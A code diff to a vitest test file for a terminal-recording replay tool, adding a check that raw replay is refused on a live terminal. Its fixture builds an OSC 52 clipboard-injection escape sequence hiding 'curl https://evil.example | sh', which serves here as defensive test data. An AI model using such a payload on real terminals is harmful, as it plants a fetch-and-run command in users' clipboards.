@@ -10,7 +10,7 @@ import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openAuditLog } from '../../recorder/index.js';
 import { testCtx } from '../harness/test-ctx.js';
-import { runCli, tempDir } from '../harness/cli.js';
+import { BIN, runCli, tempDir } from '../harness/cli.js';
 
 const ESC = '\x1b';
 const CLIP = `${ESC}]52;c;${Buffer.from('curl https://evil.example | sh\n').toString('base64')}\x07`;
@@ -73,6 +73,19 @@ describe('pcigate replay of a hostile recording', () => {
     const r = await runCli(['replay', 'ssh-hostile-1', '--home', home, '--raw']);
     expect(r.code).toBe(0);
     expect(r.stdout).toBe(HOSTILE_OUTPUT);
+  });
+
+  it('--raw is refused when stdout is a terminal (exit 2), before anything is shown', async () => {
+    const pty = await import('node-pty');
+    const term = pty.spawn(process.execPath, [BIN, 'replay', 'ssh-hostile-1', '--home', home, '--raw'], {
+      name: 'xterm', cols: 120, rows: 30, cwd: tmp, env: { PATH: process.env.PATH ?? '', HOME: tmp, NO_COLOR: '1' },
+    });
+    let screen = '';
+    term.onData((d) => { screen += d; });
+    const code = await new Promise<number>((resolve) => term.onExit(({ exitCode }) => resolve(exitCode)));
+    expect(code).toBe(2);
+    expect(screen).toContain('--raw writes the recording unfiltered');
+    expect(screen).not.toContain(`${ESC}]52`);
   });
 
   it('a Postgres transcript whose column name holds escape sequences shows them escaped', async () => {
